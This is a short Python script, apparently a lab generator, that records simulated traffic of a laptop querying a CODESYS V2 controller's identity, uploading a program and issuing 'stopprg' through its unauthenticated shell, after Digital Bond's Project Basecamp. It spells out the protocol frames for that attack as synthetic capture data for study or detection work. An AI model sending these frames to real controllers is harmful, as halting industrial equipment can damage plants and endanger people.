"""A laptop asks a controller with the CODESYS V2 runtime who it is, puts a program on it and stops it through its
shell; no password is asked (Digital Bond, Project Basecamp).

kind: S
"""

import struct

from tools.lab import output
from tools.session import Tape, TcpSession, laptop, plc


def short(body):
    return b"\xbb\xbb" + struct.pack("<HH", len(body), 0) + body


def long(body):
    return b"\xcc\xcc\x01\0" + struct.pack("<H", len(body)) + bytes(10) + b"\1\0\0\0#" + struct.pack("<H", len(body)) + b"\0" + body


def shell(command):
    return long(b"\x92" + bytes(4) + command + b"\0")


name = b"DEFAULT.PRG"
program = bytes(range(64))
identity = b"\1" + bytes(58) + b"Linux".ljust(32, b"\0") + b"2.6.39".ljust(32, b"\0") + b"LW-750 Controller".ljust(32, b"\0")
steps = [
    (short(b"\1"), short(identity)),
    (short(b"\x51\x10"), short(b"\x51\0")),
    (short(b"\x2f\1\0" + struct.pack(">H", len(name) + len(program) + 2) + b"\0" + name + b"\0\xcd" + program), short(b"\x2f\0")),
    (short(b"\x30\0" + struct.pack("<H", 8) + bytes(8)), short(b"\x30\0")),
    (shell(b"?"), long(b"\x92\0\0\4\1\0\0help")),
    (shell(b"stopprg"), long(b"\x92\0\0\4\1\0\0ok")),
]
tape = Tape()
tape.resolve(laptop, plc)
session = TcpSession(tape, laptop, plc, 2455, 49371)
session.open()
for ask, tell in steps:
    session.exchange(ask, tell, settle=True)
    tape.wait(300)
session.close()
tape.save(output())
